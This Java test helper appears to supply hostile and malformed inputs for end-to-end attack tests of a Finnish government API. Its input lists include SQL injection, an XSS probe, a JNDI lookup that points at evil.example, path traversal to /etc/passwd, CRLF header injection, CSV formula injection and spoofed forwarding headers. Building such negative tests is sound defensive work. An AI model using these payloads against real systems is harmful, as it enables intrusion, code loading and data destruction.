package fi.kapa.endtoend.attack;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.util.RawValue;
import java.util.List;
import java.util.Locale;
import java.util.stream.Stream;

/** What stands in a field or a parameter of somebody who means no good, or made a mistake. */
final class BadValues {
    private static final List<String> IN_JSON = List.of(
            "null",
            "\"\"",
            "\"   \"",
            "{}",
            "[]",
            "7",
            "-1",
            "1.5",
            "1e308",
            "1" + "0".repeat(30),
            "1" + "0".repeat(300),
            "true",
            "\"teksti\"",
            text("x".repeat(4001)),
            text("y".repeat(200_000)),
            text("ä".repeat(300)),
            text("e" + "\u0301".repeat(150)),
            text("\uD83D\uDE00".repeat(150)),
            "\"a\\u0000b\"",
            "\"a\\u0007b\"",
            "\"a\\u009bb\"",
            "\"a\\nb\"",
            "\"a\\r\\nBcc: eve@evil.example\"",
            "\"a\\u202eb\"",
            "\"a\\u2028b\"",
            "\"\\u200b\"",
            "\"\\ud800\"",
            "\"a\\uffffb\"",
            text("0000-01-01"),
            text("0001-01-01"),
            text("9999-12-31"),
            text("+10000-01-01"),
            text("-0001-01-01"),
            text("2017-02-30"),
            text("0000-01"),
            text("9999-12"),
            text("2017-13"),
            text("0000-01-01T00:00:00Z"),
            text("9999-12-31T23:59:59.999999999Z"),
            text("=HYPERLINK(1;2)"),
            text("<script>alert(1)</script>"),
            text("{kapa.secret}{#if x}"),
            text("'; drop table organisation; --"),
            text("${jndi:ldap://evil.example/x} %s%n"),
            text("../../etc/passwd"),
            text("1234567-8"),
            text("00000000-0000-0000-0000-000000000000"),
            text("aino@kunta.example>, <eve@evil.example"),
            text("99999999999999999999"),
            text("0." + "0".repeat(180) + "1"),
            text("1e400"),
            text("-0.5"),
            "{\"amount\":\"0\",\"currency\":\"EUR\"}",
            "{\"amount\":\"-1.00\",\"currency\":\"EUR\"}",
            "{\"amount\":\"999999999999.99\",\"currency\":\"EUR\"}",
            "{\"amount\":\"1.00\",\"currency\":\"SEK\"}",
            "{\"amount\":1.00,\"currency\":\"EUR\"}",
            "[null]",
            "[[]]",
            "[" + "1,".repeat(1000) + "1]",
            "{\"a\":1,\"a\":2}",
            "{\"__proto__\":{\"x\":1},\"\\u0000\":1,\"a/b~\\n\":2}",
            "[".repeat(20) + "]".repeat(20),
            "[".repeat(100_000) + "]".repeat(100_000),
            "{\"a\":".repeat(40) + "1" + "}".repeat(40),
            "NaN",
            "'a'");

    private static final List<String> IN_AN_ADDRESS = List.of(
            "",
            "%20",
            "x".repeat(5000),
            "%00",
            "a%00b",
            "a%07b",
            "a%0D%0ASet-Cookie:%20x=1",
            "%E2%80%AE",
            "%ED%A0%80",
            "%C0%80",
            "%ff",
            "%EF%BF%BF",
            "%F0%9F%98%80",
            "-1",
            "0",
            "1e9",
            "99999999999999999999",
            "0000-01-01",
            "0001-01-01",
            "9999-12-31",
            "%2B10000-01-01",
            "2017-02-30",
            "0000-01-01T00:00:00Z",
            "9999-12-31T23:59:59.999999999Z",
            "2016-01-01T00:00:00%2B03:00",
            "2016-01-01T00:00:00+03:00",
            "null",
            "%27",
            "%25",
            "_",
            "%5C",
            "%7B%7D",
            "%24%7Bjndi%7D",
            "..%2F..%2F",
            "%2e%2e",
            "a;b=c",
            "1234567-8",
            "0131297-0~",
            "0131297-0~X",
            "01312970",
            "true",
            "TRUE",
            "MR8AHw",
            "MQ",
            "TUNNISTAMINEN",
            "MUNICIPAL_AUTHORITY",
            "00000000-0000-0000-0000-000000000000",
            "1-1-1-1-1");

    private BadValues() {}

    /** For a field of a body, as they are written. */
    static Stream<JsonNode> inJson() {
        return IN_JSON.stream().map(BadValues::raw);
    }

    /** For a parameter, percent-encoded. */
    static List<String> inAnAddress() {
        return IN_AN_ADDRESS;
    }

    /** What services keep of a thing beside what they were told. */
    static JsonNode ofTheService() {
        return Answer.json("""
                {"id":"01920000-0000-7000-8000-000000000000","version":7,"revision":7,"state":"ACCEPTED",
                 "reference":"AT-2016-000001","organisation":"0201256-6","createdBy":"virkailija",
                 "recordedAt":"2016-09-01T10:00:00Z"}
                """);
    }

    static JsonNode raw(String json) {
        return JsonNodeFactory.instance.rawValueNode(new RawValue(json));
    }

    private static String text(String plain) {
        return '"' + plain + '"';
    }

    /** A value as a report shows it. */
    static String shown(Object value) {
        String text = value.toString();
        return text.length() > 40 ? "%s… (%d)".formatted(text.substring(0, 40), text.length()) : text;
    }

    /** What is sent instead of a good file in CSV. */
    static Stream<String> files(String good) {
        String head = good.lines().findFirst().orElse("");
        String row = good.lines().skip(1).findFirst().orElse("");
        return Stream.of(
                "",
                "\u0000",
                "\r\n\r\n",
                head,
                row,
                head + "\n\"",
                head + "\n" + row + "\"",
                head + "\n" + row + ",,,,,,,,,",
                head + "\n" + row.replace(",", ";"),
                head + "," + head + "\n" + row + "," + row,
                "\uFEFF" + good,
                good.replace("\n", "\r"),
                head + "\n" + row + "\n" + row,
                head + "\n" + row.replace(",", ",\u0000"),
                head + "\n" + row.replace(",", ",=1+1"),
                head + "\n" + "x".repeat(300_000),
                head + "\n" + ",".repeat(300_000),
                head + "\n" + "\"\n".repeat(100_001),
                "{\"a\":1}");
    }

    /** A header that says something else than it should. */
    static List<List<String>> headers() {
        return Stream.of(
                        "Accept: ,;q=",
                        "Accept: text/csv;q=0, */*;q=9",
                        "Accept: */*;" + "x=y;".repeat(500),
                        "Accept: application/json;charset=utf-16",
                        "Accept-Language: *;;;=,,",
                        "Accept-Language: " + "sv,".repeat(2000),
                        "If-Match: \"",
                        "If-Match: 99999999999999999999",
                        "If-None-Match: W/\"\", *x",
                        "If-None-Match: *",
                        "traceparent: 00-" + "f".repeat(5000),
                        "X-Road-Client: FI/%zz/0245437-2",
                        "X-HTTP-Method-Override: DELETE",
                        "X-Forwarded-Host: evil.example",
                        "Forwarded: for=127.0.0.1;host=evil.example",
                        "Cookie: " + "a=b; ".repeat(1000),
                        "Content-Encoding: gzip",
                        "Content-Type: application/json;charset=utf-99",
                        "Content-Type: application/json;charset=utf-16",
                        "Content-Type: " + "x".repeat(3000),
                        "Content-Type: /;=",
                        "Idempotency-Key: " + "k".repeat(3000),
                        "Idempotency-Key: a b",
                        "Range: bytes=0-1,5-",
                        "Prefer: " + "\t".repeat(100).strip() + "x")
                .map(line -> List.of(
                        line.substring(0, line.indexOf(':')),
                        line.substring(line.indexOf(':') + 1).strip()))
                .toList();
    }

    static String lower(String text) {
        return text.toLowerCase(Locale.ROOT);
    }
}
